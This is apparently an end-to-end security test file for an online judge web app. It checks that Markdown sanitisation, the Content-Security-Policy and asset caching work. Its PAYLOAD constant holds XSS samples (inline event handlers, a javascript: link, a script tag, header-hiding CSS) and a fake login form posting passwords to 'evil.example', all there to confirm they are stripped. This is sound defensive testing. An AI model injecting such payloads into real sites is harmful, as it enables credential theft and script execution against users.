/**
 * Hostile content, the Content-Security-Policy and the built app's delivery, in Chromium against
 * the real server:
 * - hostile Markdown (a signature and a problem statement) renders without its <style>, <form>,
 *   event handlers or javascript: links: the site header stays visible and no script runs;
 * - the Content-Security-Policy the server sends does not break the home page, a problem page with
 *   KaTeX and the code editor, or the scroll board (any CSP violation fails the test);
 * - the built app goes out precompressed with long-lived caching of hashed assets.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runStamp, stampedUser } from '@oj/test-fixtures';
import { baseUrl, launch, newVisitor, shot } from '../lib/browser.js';
import { AC_C, api, apiOk, createContest, createProblem, loginSession, registerUser, rootToken, rootUser, updateContest, waitVerdict } from '../lib/api.js';
import { openEditor, useSession } from '../lib/ui.js';

let browser: Browser;
let root: string;
const stamp = runStamp(6);
const user = stampedUser('sec', stamp, 'secure-pass-1');

/** Every way a signature or statement tried to take over the page. */
const PAYLOAD = [
  '**Hello** from $x^2$',
  '<style>header{display:none !important}.oj-topbar{display:none !important}</style>',
  '<form action="https://evil.example/steal" method="post" data-testid="evil-form"><input name="password" type="password" placeholder="Password"><button>Log in</button></form>',
  '<img src=x onerror="window.__xss = (window.__xss || 0) + 1">',
  '<a href="javascript:window.__xss=(window.__xss||0)+1" data-testid="evil-link">click me</a>',
  '<div onmouseover="window.__xss=1" style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div>',
  '<script>window.__xss = 99</script>',
  '[external](https://example.org/page)',
].join('\n\n');

/** Collects CSP violations of every page of the context (the scroll board opens in a new tab). */
async function watchCsp(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
  });
  context.on('console', (msg) => {
    if (msg.type() === 'error' && /Content Security Policy|CSP violation/i.test(msg.text())) violations.push(msg.text());
  });
  return violations;
}

/** What the rendered Markdown in `scope` contains that it must not, and whether any injected script ran. */
async function leftovers(page: Page, scope: string) {
  return page.evaluate((sel) => {
    const md = document.querySelectorAll(sel);
    const found: string[] = [];
    for (const root of md) {
      for (const el of root.querySelectorAll('style, form, input, button, textarea, select, iframe, object, embed, script, link, meta, base'))
        found.push(el.tagName);
      for (const el of root.querySelectorAll('*')) {
        for (const a of el.attributes) {
          if (a.name.startsWith('on')) found.push(`${el.tagName}[${a.name}]`);
          if (a.name === 'style' && !el.closest('.katex, .katex-display')) found.push(`${el.tagName}[style]`);
          if (/^\s*javascript:/i.test(a.value)) found.push(`${el.tagName}[${a.name}=${a.value}]`);
        }
      }
    }
    return {
      count: md.length,
      found,
      xss: (window as unknown as { __xss?: number }).__xss ?? null,
      styles: [...document.querySelectorAll('style')].some((s) => s.textContent?.includes('display:none !important')),
    };
  }, scope);
}

async function headerVisible(page: Page) {
  const bar = page.getByTestId('topbar');
  await bar.waitFor();
  const box = await bar.boundingBox();
  return (await bar.isVisible()) && !!box && box.height > 20;
}

let browserCtx: BrowserContext | undefined;
beforeAll(async () => {
  browser = await launch();
  root = await rootToken();
  await registerUser(user);
});
afterAll(async () => {
  await browserCtx?.close();
  await browser?.close();
});

describe('hostile Markdown', () => {
  it('a signature with <style>, <form>, handlers and javascript: links renders harmless on /user-home', async () => {
    const session = await loginSession(user);
    const saved = await api('POST', '/api/change-userInfo', { token: session.token, body: { signature: PAYLOAD } });
    expect(saved.status).toBe(200);

    const { context, page } = await newVisitor(browser);
    const violations = await watchCsp(context);
    await page.goto(`/user-home?username=${user.username}`);
    const md = page.locator('.oj-signature');
    await md.locator('strong').waitFor();
    await md.locator('.katex').waitFor();
    const r = await leftovers(page, '.oj-signature');
    expect(r.count).toBe(1);
    expect(r.found).toEqual([]);
    expect(r.styles).toBe(false);
    expect(await headerVisible(page)).toBe(true);
    expect(await page.locator('form[action*="evil.example"], input[name="password"]').count()).toBe(0);
    // The link lost its javascript: address; clicking it runs nothing.
    await md.getByText('click me').click();
    await md.getByText('cover').hover();
    await page.waitForTimeout(300);
    expect((await leftovers(page, '.oj-signature')).xss).toBeNull();
    expect(await md.locator('a[href="https://example.org/page"]').getAttribute('rel')).toBe('noopener noreferrer nofollow');
    await shot(page, 'security-signature');
    // The only CSP reports allowed are the payload's two handlers: Chromium reports an inline handler
    // as blocked as soon as it is parsed, even into the inert document the sanitiser works in.
    expect(violations.filter((v) => !/script-src-attr/.test(v))).toEqual([]);
    await context.close();
  });

  it('the same payload in a problem statement keeps the header, the editor and the math working', async () => {
    await createProblem(root, { problemId: `SEC${stamp}`, title: 'Hostile statement', description: PAYLOAD, auth: 1 });
    const { context, page } = await newVisitor(browser);
    const violations = await watchCsp(context);
    await useSession(context, await loginSession(user));
    await page.goto(`/problem/SEC${stamp}`);
    await page.locator('.oj-markdown .katex').first().waitFor();
    await openEditor(page);
    const r = await leftovers(page, '.oj-markdown');
    expect(r.found).toEqual([]);
    expect(r.styles).toBe(false);
    expect(r.xss).toBeNull();
    expect(await headerVisible(page)).toBe(true);
    await shot(page, 'security-statement');
    expect(violations.filter((v) => !/script-src-attr/.test(v))).toEqual([]);
    await context.close();
  });
});

describe('Content-Security-Policy in the browser', () => {
  it('the home page, a problem page (KaTeX, CodeMirror, typing) and the scroll board raise no CSP violation', async () => {
    const { context, page } = await newVisitor(browser);
    browserCtx = context;
    const violations = await watchCsp(context);
    const res = await page.goto('/home');
    const csp = res!.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("form-action 'self'");
    await page.getByTestId('home').locator('.oj-card').first().waitFor();
    await page.getByTestId('submission-statistics').scrollIntoViewIfNeeded();
    await page.getByTestId('statistics-chart').waitFor();
    await page.waitForLoadState('networkidle');
    await shot(page, 'security-home');

    await useSession(context, await loginSession(rootUser));
    await page.goto('/problem/P1000');
    await page.locator('.katex').first().waitFor();
    await openEditor(page);
    await page.locator('.cm-content').first().click();
    await page.keyboard.type('int main() { return 0; }');
    await expect.poll(() => page.locator('.cm-content').first().innerText()).toContain('return 0;');
    await shot(page, 'security-problem');

    // An ended contest with one accepted submission, revealed on the scroll board.
    const now = Date.now();
    const pid = await createProblem(root, { problemId: `SB${stamp}`, title: 'Scroll board problem' });
    const cid = await createContest(
      root,
      { title: `CSP ${stamp}`, startTime: new Date(now - 60 * 60_000).toISOString(), endTime: new Date(now + 60 * 60_000).toISOString() },
      [[pid, 'A']],
    );
    const userToken = (await loginSession(user)).token;
    const sub = await apiOk<{ submitId: number }>('POST', '/api/submit-problem-judge', {
      token: userToken,
      body: { pid: 'A', cid, language: 'C', code: AC_C },
    });
    expect(await waitVerdict(sub.submitId, userToken)).toBe(0);
    // it ends now, after the judged submission (which counts)
    await updateContest(root, cid, { endTime: new Date(Date.now()) });
    await page.goto(`/contest/${cid}/scroll-board`);
    await page.getByTestId('scroll-tab').waitFor();
    const gold = page.getByTestId('scroll-medal-gold');
    await ((await gold.evaluate((el) => el.tagName)) === 'INPUT' ? gold : gold.locator('input')).fill('1');
    const [board] = await Promise.all([context.waitForEvent('page'), page.getByTestId('scroll-open').click()]);
    await board.getByTestId('scroll-board').waitFor();
    await board.waitForLoadState('networkidle');
    await shot(board, 'security-scroll-board');
    expect(violations).toEqual([]);
    await context.close();
    browserCtx = undefined;
  });
});

describe('serving the built app', () => {
  it('sends hashed assets as brotli, cached a year as immutable, and index.html uncached', async () => {
    const html = await fetch(`${baseUrl()}/home`);
    expect(html.headers.get('cache-control')).toBe('no-cache');
    const page = await html.text();
    const assets = [...page.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map((m) => m[1]!);
    expect(assets.length).toBeGreaterThan(1);
    // fetch() would decode the body; node:http shows the encoding as sent.
    const { request } = await import('node:http');
    const head = (asset: string) =>
      new Promise<Record<string, string | string[] | undefined>>((resolve, reject) => {
        request(`${baseUrl()}${asset}`, { headers: { 'accept-encoding': 'gzip, deflate, br' } }, (res) => {
          res.resume();
          resolve(res.headers);
        })
          .on('error', reject)
          .end();
      });
    const answers = await Promise.all(assets.map(head));
    for (const [i, h] of answers.entries()) {
      expect(assets[i]).toMatch(/-[A-Za-z0-9_-]{8,}\.js$/);
      expect(String(h['cache-control'])).toContain('immutable');
      expect(String(h['cache-control'])).toContain('max-age=31536000');
    }
    // Every script but the tiniest (under 1 KB, not worth compressing) goes out as brotli.
    expect(answers.filter((h) => h['content-encoding'] === 'br').length).toBeGreaterThanOrEqual(assets.length - 1);
  });
});
